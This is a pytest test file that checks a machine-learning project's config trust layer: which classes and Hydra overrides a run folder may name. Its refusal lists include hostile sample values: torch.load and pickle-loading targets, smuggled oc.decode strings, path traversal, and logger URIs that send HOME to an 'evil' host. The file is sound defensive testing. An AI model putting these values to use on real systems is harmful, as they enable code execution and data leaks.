"""What the configuration and the overrides in a run folder may name."""

import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from lenet_pl.errors import ConfigError
from lenet_pl.trust import build, check_overrides, find_class

MODULE = "from pathlib import Path\nfrom torch import nn\nPath('imported').touch()\n"
MODULE += "class Net(nn.Module):\n    pass\nclass Tool:\n    pass\n"
MODULE += "class Images:\n    def prepare(self): pass\n    def load(self): pass\n"


@pytest.fixture
def working(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working folder, beside which the run folder is."""
    monkeypatch.setattr(sys, "path", [*sys.path])
    (tmp_path / "working").mkdir()
    (tmp_path / "run").mkdir()
    monkeypatch.chdir(tmp_path / "working")
    return tmp_path / "working"


@pytest.mark.parametrize(
    ("key", "target"),
    [
        ("model", "torch.nn.Linear"),
        ("model", "torchvision.models.ResNet"),
        ("data", "lenet_pl.data.datamodule.DigitsDataModule"),
        ("data.source", "lenet_pl.data.mnist.Mini"),
        ("data.augment.noise", "lenet_pl.data.augment.Noise"),
        ("optimizer", "torch.optim.RMSprop"),
        ("scheduler", "lenet_pl.optim.cosine"),
        ("trainer", "pytorch_lightning.Trainer"),
        ("callbacks.x", "pytorch_lightning.callbacks.EarlyStopping"),
        ("logger.x", "pytorch_lightning.loggers.TensorBoardLogger"),
        ("logger.x", "pytorch_lightning.loggers.CSVLogger"),
        ("logger.x", "pytorch_lightning.loggers.WandbLogger"),
        ("logger.x", "pytorch_lightning.loggers.MLFlowLogger"),
        ("trainer.plugins.0", "lenet_pl.callbacks.checkpoint.AtomicCheckpointIO"),
        ("model._args_.0", "torch.nn.ReLU"),
    ],
)
def test_classes_of_the_project_are_allowed(working, key, target):
    assert find_class(f"{key}._target_", target, working).__name__ == target.rpartition(".")[2]


@pytest.mark.parametrize(
    ("key", "target"),
    [
        ("model", "antigravity.X"),
        ("model", "os.mkdir"),
        ("model", "this"),
        ("model", ""),
        ("model", "..x"),
        ("model", 5),
        ("model", "torch.load"),
        ("model", "torch.nn.functional.torch.load"),
        ("model", "torch.nn.init.zeros_"),
        ("model", "lenet_pl.runs.subprocess.run"),
        ("model", "lenet_pl.files.write_json"),
        ("model", "lenet_pl.data.mnist.Mini"),
        ("model", "lenet_pl.Missing"),
        ("model", "lenet_pl.errors.BestEffortOutput"),
        ("model._args_.0", "lenet_pl.errors.BestEffortOutput"),
        ("model._args_.0", "lenet_pl.export.export.Export"),
        ("model._args_.0", "pytorch_lightning.Trainer"),
        ("model._args_.0", "pytorch_lightning.Trainer.validate"),
        ("trainer", "pytorch_lightning.Trainer.fit"),
        ("trainer", "lenet_pl.models.lenet.LeNet"),
        ("callbacks.x", "pytorch_lightning.Trainer"),
        ("logger.x", "pytorch_lightning.loggers.TensorBoardLogger.save"),
        ("model._args_.0", "torch.optim.lr_scheduler.partial"),
        ("callbacks.x", "lenet_pl.models.lenet.LeNet"),
        ("callbacks.x", "tensorboard.program.TensorBoard"),
        ("data.source", "${x}"),
    ],
)
def test_other_classes_are_neither_imported_nor_run(working, key, target):
    imported = set(sys.modules)
    with pytest.raises(ConfigError, match=rf"{key}\._target_=.*: ") as caught:
        find_class(f"{key}._target_", target, working)
    assert "\n" not in str(caught.value)
    assert not {"antigravity", "this", "tensorboard.program"} & (sys.modules.keys() - imported)


def test_modules_of_the_user_are_found_without_importing_them(working, monkeypatch):
    (working / "mine_in_cwd.py").write_text(MODULE)
    (working.parent / "elsewhere").mkdir()
    (working.parent / "elsewhere" / "mine_on_path.py").write_text(MODULE)
    with pytest.raises(ConfigError, match="not allowed in a run folder"):
        find_class("model._target_", "mine_on_path.Net", working.parent / "run")
    assert not (working / "imported").exists()
    monkeypatch.setenv("PYTHONPATH", str(working.parent / "elsewhere"))
    monkeypatch.syspath_prepend(str(working.parent / "elsewhere"))
    for module in ("mine_in_cwd", "mine_on_path"):
        assert (
            find_class("model._target_", f"{module}.Net", working.parent / "run").__name__ == "Net"
        )
        found = find_class("data.source._target_", f"{module}.Images", working.parent / "run")
        assert found.__name__ == "Images"
        for key, name in (
            ("model", "Tool"),
            ("data.source", "Tool"),
            ("model", "Images"),
            ("callbacks.x", "Net"),
            ("model", "Path"),
        ):
            with pytest.raises(ConfigError, match="not allowed in a run folder"):
                find_class(f"{key}._target_", f"{module}.{name}", working.parent / "run")


def test_modules_in_the_run_folder_and_installed_ones_are_not_the_users(working):
    (working / "hidden.py").write_text(MODULE)
    site = working / ".venv" / "site-packages"
    site.mkdir(parents=True)
    (site / "installed.py").write_text(MODULE)
    sys.path.append(str(site))
    for name, folder in (("hidden.Net", working), ("installed.Net", working.parent / "run")):
        with pytest.raises(ConfigError, match="not allowed in a run folder"):
            find_class("model._target_", name, folder)
    assert not (working / "imported").exists()


def test_packages_that_hold_the_run_folder_are_not_the_users(working):
    """An archive with a top folder would be a package of the working folder."""
    run = working / "shared" / "run"
    run.mkdir(parents=True)
    (run / "evil.py").write_text(MODULE)
    for init in (False, True):
        if init:
            (working / "shared" / "__init__.py").touch()
        with pytest.raises(ConfigError, match="not allowed in a run folder"):
            find_class("model._target_", "shared.run.evil.Net", run)
    assert not (working / "imported").exists()


def test_the_user_can_trust_a_module(working, monkeypatch):
    with pytest.raises(ConfigError, match=r"set LENET_PL_TRUST=pathlib "):
        find_class("model._target_", "pathlib.Path", working)
    monkeypatch.setenv("LENET_PL_TRUST", "other,pathlib")
    assert find_class("model._target_", "pathlib.Path", working) is Path


def test_code_anywhere_in_a_configuration_is_not_run(working):
    for target in ("os.mkdir", "pathlib.Path.mkdir", "pathlib.Path"):
        trap = {"_target_": target, "_args_": [str(working / "sprung")]}
        text = f'${{oc.decode:"{{_target_: {target}, _args_: [{working}/sprung]}}"}}'
        escaped = "\\" + text
        for hidden in ([1, trap], [[trap]], "${trap}", text, escaped):
            model = {"_target_": "lenet_pl.models.mlp.MLP", "hidden": hidden}
            config = OmegaConf.create({"model": model, "trap": [trap]})
            with pytest.raises(ConfigError, match=r"model\."):
                build(config, "model", working)
    assert list(working.iterdir()) == []


@pytest.mark.parametrize(
    "model",
    [
        "${model}",
        {"_target_": "torch.nn.Linear", "_partial_": True},
        {"_target_": "torch.nn.Linear", "_recursive_": "x"},
        {"_target_": "torch.nn.Linear", "in_features": "${nope}"},
        {"_target_": "torch.nn.Linear", "in_features": []},
        {"_target_": ["torch.nn.Linear"]},
    ],
)
def test_a_part_that_cannot_be_built(working, model):
    with pytest.raises(ConfigError) as caught:
        build(OmegaConf.create({"model": model}), "model", working)
    assert "\n" not in str(caught.value)


def test_overrides_of_ordinary_runs_are_allowed(working):
    overrides = ["data=mini", "data.root=/data/mnist", "~callbacks.progress", "augment=[affine]"]
    overrides += ["model.weights='../a b.pth'", "ckpt_path=/old/run/checkpoints/last.ckpt"]
    overrides += ["callbacks.early_stopping.monitor=val/loss", "name='lr 0.1, n 3'"]
    overrides += ["data.root=${oc.env:HOME}/mnist", "logger.tensorboard.name=mine"]
    overrides += ["logger=[csv,wandb]", "logger.mlflow.experiment_name=mine"]
    overrides += ["+callbacks.x={_target_: pytorch_lightning.callbacks.EarlyStopping, monitor: a}"]
    overrides += ["callbacks.checkpoint.dirpath=${run_dir}/weights", "seed=null", "test=false"]
    check_overrides(overrides, working)


@pytest.mark.parametrize(
    "override",
    [
        "--config-dir=/tmp",
        "-m",
        "hydra.searchpath=[file:///tmp]",
        "++hydra.run.dir=x",
        "+hydra/launcher=x",
        "~hydra.callbacks.preflight",
        "+model@hydra.callbacks.x=lenet",
        "+model@_global_=lenet",
        "+logger@callbacks=mlflow",
        "+logger@model=mlflow",
        "callbacks.mlflow.tracking_uri=sqlite:////tmp/x.db",
        "+x.tracking_uri=http://localhost",
        "run_dir=x",
        "model=../../tmp/evil",
        "experiment=/tmp/evil",
        "seed=1,2",
        "a: b",
        "x=" + "[" * 3000,
        "x=" + "[" * 100_000,
        "+callbacks.e._target_=torch.load",
        "+callbacks.e={_target_: numpy.load, file: x, allow_pickle: true}",
        "+callbacks={a: [{b: {_target_: torch.load}}]}",
        "+x='${oc.decode:\"{_target_: torch.load}\"}'",
        "+x='${oc.${y}:a}'",
        "callbacks.checkpoint.dirpath=weights",
        "callbacks.checkpoint.dirpath=/elsewhere",
        "callbacks.checkpoint.weights=${run_dir}/../../x",
        "callbacks.checkpoint.weights=${run_dir}x",
        "callbacks.checkpoint.weights='${data.root}'",
        "logger.tensorboard.save_dir=logs",
        "logger.tensorboard.sub_dir=../..",
        "logger.mlflow.tracking_uri='sqlite:////srv/victim.db'",
        "logger.mlflow.tracking_uri='http://evil/${oc.env:HOME}'",
        "+logger.wandb.settings={base_url:'http://evil'}",
        "+logger.wandb.entity=evil",
        "+logger.wandb.dir=logs",
        "trainer.default_root_dir=~/x",
        "name=../../x",
        "name='${oc.env:HOME}/x'",
        "name='${repeat}'",
        "callbacks.checkpoint.weights='${run_dir}/${repeatx}'",
        "+repeatx=../../victim",
        "data=../../evil",
        "+callbacks.e={_target_: lenet_pl.callbacks.history.EpochHistory, path: metrics.csv}",
    ],
)
def test_other_overrides_are_refused(working, override):
    with pytest.raises(ConfigError) as caught:
        check_overrides(["data=mini", override], working)
    message = str(caught.value)
    assert len(message.splitlines()) == 1
    assert len(message) < 400


def test_the_user_can_trust_an_override(working, monkeypatch):
    with pytest.raises(ConfigError, match=r"set LENET_PL_TRUST=trainer\.default_root_dir$"):
        check_overrides(["trainer.default_root_dir=/x"], working)
    monkeypatch.setenv("LENET_PL_TRUST", "trainer.default_root_dir")
    check_overrides(["trainer.default_root_dir=/x"], working)
